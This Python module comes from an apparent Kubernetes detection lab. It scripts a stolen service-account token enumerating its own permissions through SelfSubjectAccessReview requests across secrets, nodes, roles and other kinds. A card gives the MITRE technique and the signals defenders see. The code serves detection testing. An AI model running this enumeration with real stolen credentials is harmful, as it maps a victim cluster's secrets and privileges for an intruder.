"""Attack: stolen token enumerates its permissions.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

import itertools

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context

KINDS = (
    ("", "pods"),
    ("", "secrets"),
    ("", "serviceaccounts"),
    ("", "nodes"),
    ("apps", "deployments"),
    ("apps", "daemonsets"),
    ("rbac.authorization.k8s.io", "roles"),
    ("rbac.authorization.k8s.io", "clusterrolebindings"),
)
"""Group and plural name of the kinds asked about."""

VERBS = ("get", "list", "create", "patch", "delete")
"""Verbs asked about for each kind."""

CARD = base.Card(
    id="permission-enumeration",
    title="Stolen token enumerates its permissions",
    technique=base.Technique(id="T1069.003", name="Cloud Groups", tactic="Discovery"),
    use_case=vocabulary.UseCase.DISCOVERY,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Reads the discovery documents and then asks the API server, verb by verb and kind by kind, what the "
        "stolen account may do, as permission scanners do."
    ),
    seen_by="An application asks about its own rights dozens of times in a minute; it never asked before.",
    cleans_up="Leaves nothing behind: it only reads.",
    victim=base.Part.APP,
    catalogues=(
        "GuardDuty: AnomalousBehavior.PermissionChecked",
        "Microsoft: Access the K8S API server",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.APP)
    thief = ctx.act_as(victim, user_agent=context.GO_CLIENT, machine=True)
    for path in ("/version", "/api", "/apis", "/api/v1", "/apis/rbac.authorization.k8s.io/v1"):
        yield thief.get(path)
    for (group, resource), verb in itertools.product(KINDS, VERBS):
        attributes = {"namespace": victim.namespace, "verb": verb, "group": group, "resource": resource}
        body = {
            "apiVersion": "authorization.k8s.io/v1",
            "kind": "SelfSubjectAccessReview",
            "spec": {"resourceAttributes": attributes},
        }
        yield thief.create("/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", body)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
